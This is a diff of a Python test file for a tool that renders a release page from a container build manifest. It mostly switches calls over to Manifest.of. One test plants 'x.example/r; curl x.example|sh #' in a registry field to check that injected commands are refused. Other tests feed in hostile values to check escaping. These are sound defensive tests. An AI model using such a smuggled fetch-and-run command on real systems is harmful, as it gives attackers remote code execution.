@@ -27,6 +27,7 @@ from release.core.accelerator import Accelerator
 from release.core.generated import Spelling, Standing, WrittenBy, stamped, standing
 from release.core.html_text import notes_html
 from release.core.manifest import ManifestError, Release, check
+from release.core.manifest_records import Manifest
 from release.core.matrix import ImageMatrix, Variant
 from release.core.rc_page import ENGINES_OWN, Reproduced, ReproduceState, render
 from release.core.rc_page_input import page_of, reproduce_of
@@ -252,7 +253,7 @@ def reproduced(document: Element) -> dict[str, str]:
 # -- the renderer ------------------------------------------------------------------------
 def test_every_row_platform_digest_and_pull_line_is_on_the_page() -> None:
     recorded = manifest()
-    page = render(page_of(recorded, matrix=matrix(), notes=NOTES))
+    page = render(page_of(Manifest.of(recorded), matrix=matrix(), notes=NOTES))
     document = dom(page)
     check_against_manifest(document, recorded)
     assert [r.attrs["data-row"] for r in document.one(id="matrix").find("tr")[1:]] == list(
@@ -278,7 +279,7 @@ def test_every_row_platform_digest_and_pull_line_is_on_the_page() -> None:
 
 
 def test_a_failed_check_shows_with_its_counts_and_reason() -> None:
-    document = dom(render(page_of(manifest(), matrix=matrix())))
+    document = dom(render(page_of(Manifest.of(manifest()), matrix=matrix())))
     cu130 = document.one(id="matrix").one("tr", data_row="cu130")
     smoked = cu130.one("td", class_="smoke")
     assert smoked.attrs["data-passed"] == "0" and "FAILED" in smoked.text
@@ -291,7 +292,7 @@ def test_a_row_without_a_publish_part_says_not_published() -> None:
     recorded = manifest()
     for entry in recorded["variants"].values():
         entry.pop("publish", None)
-    document = dom(render(page_of(recorded, matrix=matrix())))
+    document = dom(render(page_of(Manifest.of(recorded), matrix=matrix())))
     assert not document.find("code", class_="pull")
     cells = document.find("div", class_="not-published")
     assert [c.attrs["data-image-id"] for c in cells] == [sha(n) for n in "1234"]
@@ -300,7 +301,7 @@ def test_a_row_without_a_publish_part_says_not_published() -> None:
 
 
 def test_a_row_the_matrix_lacks_is_its_own_variant_on_its_publish_platform() -> None:
-    document = dom(render(page_of(manifest())))  # no matrix at all
+    document = dom(render(page_of(Manifest.of(manifest()))))  # no matrix at all
     arm = document.one(id="matrix").one("tr", data_row="cu129-arm64")
     assert (arm.attrs["data-group"], arm.attrs["data-platform"]) == ("cu129-arm64", "linux/arm64")
     assert (
@@ -309,7 +310,7 @@ def test_a_row_the_matrix_lacks_is_its_own_variant_on_its_publish_platform() -> 
 
 
 def test_reproduce_missing_says_not_run() -> None:
-    document = dom(render(page_of(manifest(), matrix=matrix())))
+    document = dom(render(page_of(Manifest.of(manifest()), matrix=matrix())))
     cells = document.find("td", class_="reproduce")
     assert len(cells) == 4 and {c.attrs["data-status"] for c in cells} == {"not run"}
     summary = document.one("p", data_reproduced="false")
@@ -334,7 +335,7 @@ def test_reproduce_verdicts_per_row() -> None:
         "notices": ["used the local tag: no remote 'origin'"],
     }
     found = reproduce_of(json.loads(json.dumps(record)), TAG)
-    document = dom(render(page_of(manifest(), matrix=matrix(), reproduce=found)))
+    document = dom(render(page_of(Manifest.of(manifest()), matrix=matrix(), reproduce=found)))
     assert reproduced(document) == {
         "cu128": "match",
         "cu129-amd64": "not compared",
@@ -425,7 +426,7 @@ def assert_inert(page: str, document: Element) -> None:
 
 def test_hostile_values_are_escaped_and_inject_no_markup() -> None:
     recorded = hostile_manifest()
-    page = render(page_of(recorded, matrix=matrix(), notes=HOSTILE_NOTES))
+    page = render(page_of(Manifest.of(recorded), matrix=matrix(), notes=HOSTILE_NOTES))
     document = dom(page)
     assert_inert(page, document)
     shown = escaped(HOSTILE)  # what a reader sees: the controls as escapes, the rest as text
@@ -451,7 +452,7 @@ def test_a_pull_line_is_only_made_of_an_image_reference() -> None:
     recorded = manifest()
     recorded["variants"]["cu130"]["publish"]["registry"] = "x.example/r; curl x.example|sh #"
     recorded["variants"]["cu129-arm64"]["publish"]["registry"] = "x.example/r\n"
-    document = dom(render(page_of(check(recorded, "test"), matrix=matrix())))
+    document = dom(render(page_of(Manifest.of(check(recorded, "test")), matrix=matrix())))
     pulls = [c.attrs["data-digest"] for c in document.find("code", class_="pull")]
     assert pulls == [sha("9"), sha("a")]  # cu129's index (amd64's own registry) and amd64
     refused = {
@@ -478,7 +479,7 @@ def test_notes_keep_headings_items_code_and_http_links_only() -> None:
 
 
 def test_bytes_that_were_not_utf8_are_shown_not_written_raw() -> None:
-    page = render(page_of(manifest(), notes="caf\udce9 notes\n"))
+    page = render(page_of(Manifest.of(manifest()), notes="caf\udce9 notes\n"))
     assert "caf\\udce9 notes" in page
     page.encode("utf-8")  # writable
 
@@ -486,7 +487,7 @@ def test_bytes_that_were_not_utf8_are_shown_not_written_raw() -> None:
 def test_a_lightweight_tag_has_no_notes_and_a_final_says_where_it_came_from() -> None:
     recorded = manifest(tag="v0.31.0", version="0.31.0")
     recorded["promoted_from"] = {"tag": TAG, "commit": COMMIT, "image_ids": {}}
-    document = dom(render(page_of(recorded, matrix=matrix())))
+    document = dom(render(page_of(Manifest.of(recorded), matrix=matrix())))
     assert "lightweight tag" in document.one(id="notes").text
     header = document.one("header")
     assert header.attrs["data-promoted-from"] == TAG and "final release" in header.text
@@ -680,7 +681,7 @@ def test_the_page_in_a_real_browser(tmp_path: Path) -> None:
     hostile = copy.deepcopy(recorded)
     hostile["variants"]["cu128"]["snapshot"]["reason"] = HOSTILE
     page = tmp_path / f"{TAG}.html"
-    body = render(page_of(hostile, matrix=matrix(), notes=NOTES + HOSTILE_NOTES))
+    body = render(page_of(Manifest.of(hostile), matrix=matrix(), notes=NOTES + HOSTILE_NOTES))
     by = WrittenBy("0.1.0", ("release", "report", TAG))  # the page as release report writes it
     page.write_text(stamped(body, Spelling.HTML, by), encoding="utf-8")
     dumped = _headless(chromium, tmp_path / "profile", "--dump-dom", page.as_uri())
@@ -706,7 +707,7 @@ def test_the_accelerator_column_shows_each_rows_accelerator_old_records_as_cuda(
     rocm = recorded["variants"]["cu130"]["build"]
     del rocm["cuda"]
     rocm["accelerator"] = {"kind": "rocm", "version": "6.4.1"}
-    page = render(page_of(check(recorded, "a manifest with a ROCm row"), matrix=matrix()))
+    page = render(page_of(Manifest.of(check(recorded, "a manifest with a ROCm row")), matrix=matrix()))
     document = dom(page)
     heads = [th.text.strip() for th in document.find("th", scope="col")]
     assert heads[:3] == ["variant", "platform", "accelerator"]
@@ -720,7 +721,7 @@ def test_each_published_image_and_index_shows_its_signer_or_unsigned() -> None:
     for row in ("cu129-amd64", "cu129-arm64"):
         recorded["variants"][row]["publish"]["signed_by"] = fpr
         recorded["variants"][row]["publish"]["index"]["signed_by"] = fpr
-    document = dom(render(page_of(check(recorded, "signed"), matrix=matrix(), notes=NOTES)))
+    document = dom(render(page_of(Manifest.of(check(recorded, "signed")), matrix=matrix(), notes=NOTES)))
     check_against_manifest(document, recorded)
     digests = document.one(id="digests")
     signers = {
@@ -776,7 +777,7 @@ def test_each_published_image_shows_its_sbom_and_provenance_or_none() -> None:
     recorded["variants"]["cu129-amd64"]["publish"]["signed_by"] = fpr
     recorded["variants"]["cu129-amd64"]["attest"] = attest_record("amd64", 142, fpr)
     recorded["variants"]["cu129-arm64"]["attest"] = attest_record("arm64", 97, None)
-    document = dom(render(page_of(check(recorded, "attested"), matrix=matrix(), notes=NOTES)))
+    document = dom(render(page_of(Manifest.of(check(recorded, "attested")), matrix=matrix(), notes=NOTES)))
     check_against_manifest(document, recorded)
     shown = {}
     for div in document.one(id="digests").find("div"):
